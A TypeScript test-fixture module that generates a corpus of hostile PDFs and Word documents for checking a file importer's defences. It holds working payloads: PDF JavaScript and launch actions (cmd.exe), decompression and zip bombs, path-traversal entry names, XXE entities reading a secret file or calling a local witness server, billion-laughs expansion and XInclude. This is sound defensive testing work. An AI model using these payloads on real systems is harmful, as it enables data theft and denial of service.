// The hostile PDF and DOCX corpus of the hostile-files trust program: malformed cross-reference
// tables, JavaScript and launch actions, absurd page counts, decompression bombs, deep nesting,
// zip bombs (declared and lying), tens of thousands of entries, nested archives, path traversal
// names, broken XML, external entities (XXE), entity expansion and XInclude. Every byte is made
// here, deterministically (some by hand where pdf-lib and jszip cannot say it); never written to
// disk by this module and never read from anywhere.
import { constants, crc32, deflateRawSync } from 'node:zlib';
import JSZip from 'jszip';
import { docx } from '../../fixtures/generate/docx.js';
import { flateBombPdf, manyPagesPdf, textPdf, truncatedPdf } from '../../fixtures/generate/pdf.js';

export interface HostileFile {
  name: string;
  bytes: Uint8Array;
  /** What must happen: a source, a refusal, or either (each then judged: a correct source, or a clear refusal). */
  expect: 'source' | 'reject' | 'either';
  /** A sentence the source's text must hold when it imports. */
  text?: string;
}

export interface CorpusOptions {
  /** Absolute path of a file whose contents (holding `secret`) no import may ever show. */
  secretPath: string;
  secret: string;
  /** http://127.0.0.1:PORT of a server that counts every request: no import may reach it. */
  witness: string;
  /** Absolute paths a path-traversal entry name aims at: no import may create them. */
  escapeTargets: string[];
  /** How many GiB the bombs claim to inflate to. */
  bombGib: number;
  /**
   * Add the files that each cost the import its whole memory or time bound (tens of seconds): the
   * metadata and hex-filtered bombs, and content nested 100,000 deep. The small run keeps one
   * memory bomb and shallower nesting, so it stays within a CI budget.
   */
  slow: boolean;
}

const latin1 = (s: string): Buffer => Buffer.from(s, 'latin1');
const sentence = (name: string): string => `Harmless sentence kept in ${name} for the reader.`;

// ── PDF, by hand ───────────────────────────────────────────────────────────────────────────────

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

function pdfStream(data: Buffer, extra = ''): Buffer {
  return Buffer.concat([latin1(`<< /Length ${data.length} ${extra} >>\nstream\n`), data, latin1('\nendstream')]);
}

/** Objects 1…n in order, a classic cross-reference table and a trailer with /Root 1 0 R. */
function writePdf(objects: (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let at = parts[0]!.length;
  const offsets = objects.map((body, i) => {
    const bytes = Buffer.concat([latin1(`${i + 1} 0 obj\n`), typeof body === 'string' ? latin1(body) : body, latin1('\nendobj\n')]);
    parts.push(bytes);
    const offset = at;
    at += bytes.length;
    return offset;
  });
  const xref = ['xref', `0 ${objects.length + 1}`, '0000000000 65535 f\r', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n\r`)];
  parts.push(latin1(`${xref.join('\n')}\ntrailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** A one-page PDF showing `text`, with extra catalog entries and extra objects after the font (numbered from 6). */
function onePage(text: string, catalogExtra = '', pageExtra = '', extraObjects: (string | Buffer)[] = [], trailer = ''): Buffer {
  return writePdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
      '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${pageExtra} >>`,
      pdfStream(latin1(`BT /F1 11 Tf 72 770 Td (${text}) Tj ET`)),
      FONT,
      ...extraObjects,
    ],
    trailer,
  );
}

/**
 * zlib data inflating to `mib` MiB of `fill`: one MiB deflated with a full flush (byte-aligned, no
 * history), repeated, then an empty final block. The Adler-32 is left zero: a reader that checks it
 * has inflated everything first, which is the point.
 */
function zlibBomb(mib: number, fill: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(1 << 20, fill), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: mib }, () => block), deflateRawSync(Buffer.alloc(0)), Buffer.alloc(4)]);
}

async function pdfCorpus(o: CorpusOptions): Promise<HostileFile[]> {
  const files: HostileFile[] = [];
  const add = (name: string, bytes: Uint8Array, expect: HostileFile['expect'], text?: string): void => {
    files.push({ name, bytes, expect, ...(text ? { text } : {}) });
  };
  const good = async (name: string): Promise<Buffer> => Buffer.from(await textPdf({ title: name, pages: [[sentence(name)]] }));

  add('control-plain.pdf', await good('control-plain.pdf'), 'source', sentence('control-plain.pdf'));

  // Malformed cross-reference data: readers rebuild it by scanning for "n 0 obj".
  {
    const name = 'xref-offsets-garbage.pdf';
    const bytes = (await good(name)).toString('latin1').replace(/^\d{10} 00000 n/gm, '9876543210 00000 n');
    add(name, latin1(bytes), 'either', sentence(name));
  }
  {
    const name = 'xref-missing.pdf';
    const whole = (await good(name)).toString('latin1');
    add(name, latin1(whole.slice(0, whole.lastIndexOf('xref')) + '%%EOF\n'), 'either', sentence(name));
  }
  {
    const name = 'startxref-past-end.pdf';
    add(name, latin1(onePage(sentence(name)).toString('latin1').replace(/startxref\n\d+/, 'startxref\n999999999')), 'either', sentence(name));
  }
  {
    // An incremental update whose /Prev points at itself: a reader following /Prev loops forever.
    const name = 'xref-prev-loop.pdf';
    const base = onePage(sentence(name)).toString('latin1');
    const start = Number(/startxref\n(\d+)/.exec(base)![1]);
    add(name, latin1(base.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${start}`)), 'either', sentence(name));
  }
  {
    const name = 'xref-negative-and-huge-entries.pdf';
    const base = onePage(sentence(name)).toString('latin1').replace(/^0 6$/m, '0 4294967295').replace(/\/Size 6/, '/Size -1');
    add(name, latin1(base), 'either', sentence(name));
  }

  // Code and actions: never run; the text still imports.
  {
    const name = 'openaction-javascript.pdf';
    const js = `app.alert('pwned'); this.submitForm('${o.witness}/pdf-js'); app.launchURL('${o.witness}/pdf-launch', true);`;
    add(
      name,
      onePage(
        sentence(name),
        '/OpenAction 6 0 R /AA << /WC 6 0 R /WS 6 0 R /DP 6 0 R >> /Names << /JavaScript << /Names [(pwn) 6 0 R] >> >>',
        '/AA << /O 6 0 R /C 6 0 R >> /Annots [7 0 R 8 0 R]',
        [
          `<< /Type /Action /S /JavaScript /JS (${js}) /Next 9 0 R >>`,
          `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${o.witness}/pdf-uri) >> >>`,
          '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
          `<< /S /SubmitForm /F << /FS /URL /F (${o.witness}/pdf-submit) >> >>`,
        ],
      ),
      'source',
      sentence(name),
    );
  }
  {
    const name = 'javascript-in-stream.pdf';
    add(
      name,
      onePage(sentence(name), '/OpenAction << /S /JavaScript /JS 6 0 R >>', '', [pdfStream(latin1(`while (true) { app.alert('${o.witness}'); }`))]),
      'source',
      sentence(name),
    );
  }
  {
    const name = 'acroform-xfa.pdf';
    const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("${o.witness}/xfa")</script></event></subform></template></xdp:xdp>`;
    add(name, onePage(sentence(name), '/AcroForm << /Fields [] /XFA 6 0 R /NeedsRendering true >>', '', [pdfStream(latin1(xfa))]), 'source', sentence(name));
  }

  // Page counts.
  add('page-tree-claims-a-million-pages.pdf', latin1(onePage('One page only.').toString('latin1').replace('/Count 1', '/Count 1000000')), 'either');
  add('million-page-kids.pdf', manyPagesPdf(1_000_000), 'reject');
  {
    const name = 'page-tree-cycle.pdf';
    add(name, latin1(onePage(sentence(name)).toString('latin1').replace('/Kids [3 0 R]', '/Kids [3 0 R 2 0 R]').replace('/Count 1', '/Count 2')), 'either', sentence(name));
  }

  // Decompression bombs.
  add(`flate-bomb-content-${o.bombGib}gib.pdf`, flateBombPdf(o.bombGib * 1024), 'reject');
  if (o.slow) add(`flate-bomb-xmp-metadata-${o.bombGib}gib.pdf`, onePage('Metadata bomb.', '/Metadata 6 0 R', '', [pdfStream(zlibBomb(o.bombGib * 1024, 0x20), '/Type /Metadata /Subtype /XML /Filter /FlateDecode')]), 'reject');
  // Text operators that inflate to tens of millions of characters: stopped by the text limit.
  if (o.slow) add('text-bomb-200mib.pdf', flateBombPdf(200, { fill: 'text' }), 'reject');
  // The bomb behind a second filter: hex text that decodes to zlib data that inflates to GiBs.
  if (o.slow) {
    add(
      `flate-bomb-behind-hex-filter-${o.bombGib}gib.pdf`,
      onePageWithContent(latin1(`${zlibBomb(o.bombGib * 1024, 0x20).toString('hex')}>`), '/Filter [/ASCIIHexDecode /FlateDecode]'),
      'reject',
    );
  }

  // Deep nesting.
  const depth = 100_000;
  add('deep-nesting-arrays.pdf', onePage('Deep arrays.', `/Deep ${'['.repeat(depth)}${']'.repeat(depth)}`), 'either');
  add('deep-nesting-dictionaries.pdf', onePage('Deep dictionaries.', `/Deep ${'<< /A '.repeat(depth)}1${' >>'.repeat(depth)}`), 'either');
  // pdf.js's text extraction slows down steeply with graphics-state depth (measured: 4,000 nested
  // q in 2.9 s, 8,000 in 17 s, 20,000 past the 60 s bound), so the small run stays at 3,000 and the
  // large one shows the time bound stopping 100,000.
  const states = o.slow ? 100_000 : 3_000;
  add(`deep-nesting-graphics-states-${states}.pdf`, onePageWithContent(latin1(`${'q '.repeat(states)}BT /F1 11 Tf 72 770 Td (Deep states.) Tj ET${' Q'.repeat(states)}`)), 'either', 'Deep states.');
  {
    // A page tree 20,000 levels deep: each Pages node's only kid is the next.
    const levels = 20_000;
    const objects: (string | Buffer)[] = ['<< /Type /Catalog /Pages 2 0 R >>'];
    for (let i = 0; i < levels; i++) objects.push(`<< /Type /Pages /Count 1 /Kids [${i + 3} 0 R] ${i ? `/Parent ${i + 1} 0 R` : ''} >>`);
    const page = levels + 2;
    objects.push(`<< /Type /Page /Parent ${page - 1} 0 R /MediaBox [0 0 595 842] /Contents ${page + 1} 0 R /Resources << /Font << /F1 ${page + 2} 0 R >> >> >>`);
    objects.push(pdfStream(latin1('BT /F1 11 Tf 72 770 Td (Deep tree.) Tj ET')), FONT);
    add('deep-page-tree.pdf', writePdf(objects), 'either', 'Deep tree.');
  }

  // Damaged and empty.
  add('truncated-half.pdf', await truncatedPdf(), 'either');
  add('empty.pdf', new Uint8Array(0), 'reject');
  add('header-only.pdf', latin1('%PDF-1.7\n%%EOF\n'), 'reject');
  add('junk-after-header.pdf', Buffer.concat([latin1('%PDF-1.4\n'), pseudoRandom(64 * 1024, 99)]), 'reject');
  return files;
}

/** A one-page PDF whose content stream is `content`, with stream dictionary entries `filter`. */
function onePageWithContent(content: Buffer, filter = ''): Buffer {
  return writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    pdfStream(content, filter),
    FONT,
  ]);
}

// ── DOCX, by hand ──────────────────────────────────────────────────────────────────────────────

interface ZipEntry {
  name: string;
  /** The bytes as stored (already deflated when method is 8). */
  data: Uint8Array;
  method: 0 | 8;
  crc: number;
  /** Uncompressed size as the headers state it. */
  size: number;
  /** General purpose flags; bit 0 says the entry is encrypted. */
  flags?: number;
}

const stored = (name: string, data: Uint8Array | string): ZipEntry => {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'utf8') : data;
  return { name, data: bytes, method: 0, crc: crc32(bytes), size: bytes.length };
};

const deflated = (name: string, data: Uint8Array | string): ZipEntry => {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'utf8') : data;
  return { name, data: deflateRawSync(bytes), method: 8, crc: crc32(bytes), size: bytes.length };
};

/** A zip (PKWARE APPNOTE §4.3) of the entries as given, duplicates and lies included. */
function writeZip(entries: ZipEntry[], endOverride?: (end: DataView) => void): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(0x0800 | (e.flags ?? 0), 6);
    head.writeUInt16LE(e.method, 8);
    head.writeUInt16LE((44 << 9) | (1 << 5) | 1, 12);
    head.writeUInt32LE(e.crc >>> 0, 14);
    head.writeUInt32LE(e.data.length, 18);
    head.writeUInt32LE(e.size >>> 0, 22);
    head.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    head.copy(central, 6, 4, 30);
    central.writeUInt32LE(offset, 42);
    locals.push(head, name, Buffer.from(e.data));
    centrals.push(central, name);
    offset += 30 + name.length + e.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 8);
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  endOverride?.(new DataView(end.buffer, end.byteOffset, end.length));
  return Buffer.concat([...locals, directory, end]);
}

/** The parts of a small valid .docx (from the project's own generator), by name. */
async function docxParts(text: string, title = 'Harmless looking'): Promise<Map<string, string>> {
  const zip = await JSZip.loadAsync(await docx({ title, blocks: [{ paragraph: text }] }));
  const parts = new Map<string, string>();
  for (const [name, file] of Object.entries(zip.files)) if (!file.dir) parts.set(name, await file.async('string'));
  return parts;
}

function docxFrom(parts: Map<string, string>, extra: ZipEntry[] = [], replace: Record<string, string> = {}): Buffer {
  const entries = [...parts].map(([name, body]) => deflated(name, replace[name] ?? body));
  return writeZip([...entries, ...extra]);
}

/** Puts a DOCTYPE before the root element of an XML part (after its declaration). */
function withDoctype(xml: string, root: string, internal: string): string {
  return xml.replace(/(<\?xml[^>]*\?>\s*)/, `$1<!DOCTYPE ${root} [${internal}]>`);
}

async function docxCorpus(o: CorpusOptions): Promise<HostileFile[]> {
  const files: HostileFile[] = [];
  const add = (name: string, bytes: Uint8Array, expect: HostileFile['expect'], text?: string): void => {
    files.push({ name, bytes, expect, ...(text ? { text } : {}) });
  };
  const base = async (name: string): Promise<Map<string, string>> => docxParts(sentence(name));
  const secretUrl = `file://${o.secretPath}`;

  add('control-plain.docx', docxFrom(await base('control-plain.docx')), 'source', sentence('control-plain.docx'));

  // Zip bombs: declared, understated, nested, many entries.
  const gib = o.bombGib;
  add(`zip-bomb-declared-${gib}gib.docx`, withBomb(await base('x'), gib * 1024, 'word/media/zeros.bin', false), 'reject');
  add(`zip-bomb-understated-${gib}gib.docx`, withBomb(await base('x'), gib * 1024, 'word/document.xml', true), 'reject');
  add(`zip-bomb-understated-core-properties.docx`, withBomb(await base('x'), 1024, 'docProps/core.xml', true), 'reject');
  {
    // A bomb inside an embedded archive: the outer document is small and honest, and its text imports.
    const name = 'zip-bomb-nested-in-embedding.docx';
    const inner = withBomb(await base('inner'), gib * 1024, 'word/media/zeros.bin', false);
    add(name, docxFrom(await base(name), [stored('word/embeddings/oleObject1.docx', inner), stored('word/embeddings/inner.zip', inner)]), 'source', sentence(name));
  }
  add('zip-in-zip-only.docx', writeZip([stored('report.docx', docxFrom(await base('inner-only')))]), 'reject');
  {
    const entries = Array.from({ length: 20_000 }, (_, i) => stored(`word/media/tiny${i}.bin`, ''));
    add('many-entries-20000.docx', docxFrom(await base('many'), entries), 'reject');
  }
  {
    const name = 'many-entries-9000.docx';
    const entries = Array.from({ length: 9_000 }, (_, i) => stored(`customXml/item${i}.xml`, '<a/>'));
    add(name, docxFrom(await base(name), entries), 'source', sentence(name));
  }
  {
    // The end record claims 65,535 entries, far more than the directory holds.
    const bytes = docxFrom(await base('eocd'));
    const end = bytes.length - 22;
    bytes.writeUInt16LE(0xffff, end + 8);
    bytes.writeUInt16LE(0xffff, end + 10);
    add('directory-claims-65535-entries.docx', bytes, 'reject');
  }

  // Path traversal names: a reader never writes entries to disk; the document still imports.
  {
    const name = 'path-traversal-names.docx';
    const marker = `written by ${name}`;
    const traversal = o.escapeTargets.flatMap((target) => [
      stored(`../../../../../../../../..${target}`, marker),
      stored(target, marker),
      stored(`word/../../../../../../../../..${target}`, marker),
      stored(`..\\..\\..\\..\\..\\..\\..\\..\\..${target.replace(/\//g, '\\')}`, marker),
    ]);
    add(name, docxFrom(await base(name), traversal), 'either', sentence(name));
  }

  // Invalid and hostile XML.
  {
    const parts = await base('bad-xml');
    add('invalid-xml-document.docx', docxFrom(parts, [], { 'word/document.xml': parts.get('word/document.xml')!.replace('</w:body>', '<w:p><w:r><w:t>unclosed') }), 'reject');
  }
  {
    const parts = await base('not-xml');
    add('binary-document-part.docx', docxFrom(parts, [stored('word/document.xml', pseudoRandom(8192, 5))]), 'either');
  }
  {
    const name = 'xml-deep-nesting.docx';
    const parts = await base(name);
    const deep = `<w:sdt>${'<w:sdtContent><w:sdt>'.repeat(50_000)}${'</w:sdt></w:sdtContent>'.repeat(50_000)}</w:sdt>`;
    add(name, docxFrom(parts, [], { 'word/document.xml': parts.get('word/document.xml')!.replace('<w:body>', `<w:body>${deep}`) }), 'either', sentence(name));
  }
  for (const [kind, part, root] of [
    ['document', 'word/document.xml', 'w:document'],
    ['core-properties', 'docProps/core.xml', 'cp:coreProperties'],
  ] as const) {
    {
      const name = `xxe-file-${kind}.docx`;
      const parts = await base(name);
      const xml = withDoctype(parts.get(part)!, root, `<!ENTITY xxe SYSTEM "${secretUrl}">`);
      add(name, docxFrom(parts, [], { [part]: injectEntity(xml, kind, '&xxe;') }), 'either', kind === 'document' ? undefined : sentence(name));
    }
    {
      const name = `xxe-http-${kind}.docx`;
      const parts = await base(name);
      const xml = withDoctype(parts.get(part)!, root, `<!ENTITY xxe SYSTEM "${o.witness}/xxe-${kind}">`);
      add(name, docxFrom(parts, [], { [part]: injectEntity(xml, kind, '&xxe;') }), 'either', kind === 'document' ? undefined : sentence(name));
    }
    {
      const name = `xxe-parameter-entity-${kind}.docx`;
      const parts = await base(name);
      const xml = withDoctype(parts.get(part)!, root, `<!ENTITY % remote SYSTEM "${o.witness}/xxe-dtd-${kind}"> %remote; <!ENTITY % file SYSTEM "${secretUrl}">`);
      add(name, docxFrom(parts, [], { [part]: xml }), 'either', kind === 'document' ? undefined : sentence(name));
    }
    {
      const name = `billion-laughs-${kind}.docx`;
      const parts = await base(name);
      const levels = ['<!ENTITY lol0 "lololololololololololololololololololololololololololol">'];
      for (let i = 1; i <= 12; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
      const xml = withDoctype(parts.get(part)!, root, levels.join(''));
      add(name, docxFrom(parts, [], { [part]: injectEntity(xml, kind, '&lol12;') }), 'either', kind === 'document' ? undefined : sentence(name));
    }
  }
  {
    const name = 'xinclude-secret.docx';
    const parts = await base(name);
    const xml = parts
      .get('word/document.xml')!
      .replace('<w:body>', `<w:body><w:p><w:r><w:t><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${secretUrl}" parse="text"/></w:t></w:r></w:p>`);
    add(name, docxFrom(parts, [], { 'word/document.xml': xml }), 'either', sentence(name));
  }
  {
    // The relationships point the main document at a file outside the package.
    const name = 'external-target-relationship.docx';
    const parts = await base(name);
    const rels = parts.get('_rels/.rels')!.replace(/Target="[^"]*document\.xml"/, `Target="${secretUrl}" TargetMode="External"`);
    add(name, docxFrom(parts, [], { '_rels/.rels': rels }), 'either');
  }

  // Damaged archives.
  {
    const name = 'duplicate-entry-names.docx';
    const parts = await base(name);
    add(name, docxFrom(parts, [stored('word/document.xml', pseudoRandom(4096, 17))]), 'either');
  }
  {
    const parts = await base('encrypted-entry');
    const entries = [...parts].map(([n, body]) => ({ ...deflated(n, body), flags: n === 'word/document.xml' ? 1 : 0 }));
    add('encrypted-entry.docx', writeZip(entries), 'reject');
  }
  {
    const parts = await base('crc');
    const entries = [...parts].map(([n, body]) => (n === 'word/document.xml' ? { ...deflated(n, body), crc: 0xdeadbeef } : deflated(n, body)));
    add('crc-mismatch.docx', writeZip(entries), 'either');
  }
  {
    const whole = docxFrom(await base('truncated'));
    add('truncated-half.docx', whole.subarray(0, Math.floor(whole.length / 2)), 'reject');
  }
  add('empty.docx', new Uint8Array(0), 'reject');
  add('not-a-zip.docx', Buffer.from('Minutes typed in a text editor and saved as .docx.\n'), 'reject');
  {
    const ole = pseudoRandom(4096, 3);
    ole.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
    add('ole-encrypted.docx', ole, 'reject');
  }
  return files;
}

/** Puts `entity` where the part's text is: a paragraph of the document, or the core properties' title. */
function injectEntity(xml: string, kind: 'document' | 'core-properties', entity: string): string {
  if (kind === 'document') return xml.replace('<w:body>', `<w:body><w:p><w:r><w:t>${entity}</w:t></w:r></w:p>`);
  return xml.replace(/<dc:title>[^<]*<\/dc:title>/, `<dc:title>${entity}</dc:title>`);
}

/**
 * The parts plus `name` inflating to `mib` MiB of zeros (one deflated MiB repeated, as in the
 * project's zipBombDocx), its size stated truly or as 2 KB. Replaces a part of that name.
 */
function withBomb(parts: Map<string, string>, mib: number, name: string, understate: boolean): Buffer {
  const megabyte = Buffer.alloc(1 << 20);
  const chunk = deflateRawSync(megabyte, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const data = Buffer.concat([...Array.from({ length: mib }, () => chunk), Buffer.from([0x03, 0x00])]);
  let crc = 0;
  for (let i = 0; i < mib; i++) crc = crc32(megabyte, crc);
  const size = understate ? 2048 : Math.min(mib * (1 << 20), 0xfffffffe);
  const entries = [...parts].filter(([n]) => n !== name).map(([n, body]) => deflated(n, body));
  return writeZip([...entries, { name, data, method: 8, crc, size }]);
}

/** Deterministic filler bytes (xorshift32). */
function pseudoRandom(n: number, seed: number): Buffer {
  const out = Buffer.alloc(n);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

/** The whole corpus: PDFs first, then Word documents. */
export async function hostileFiles(options: CorpusOptions): Promise<HostileFile[]> {
  return [...(await pdfCorpus(options)), ...(await docxCorpus(options))];
}
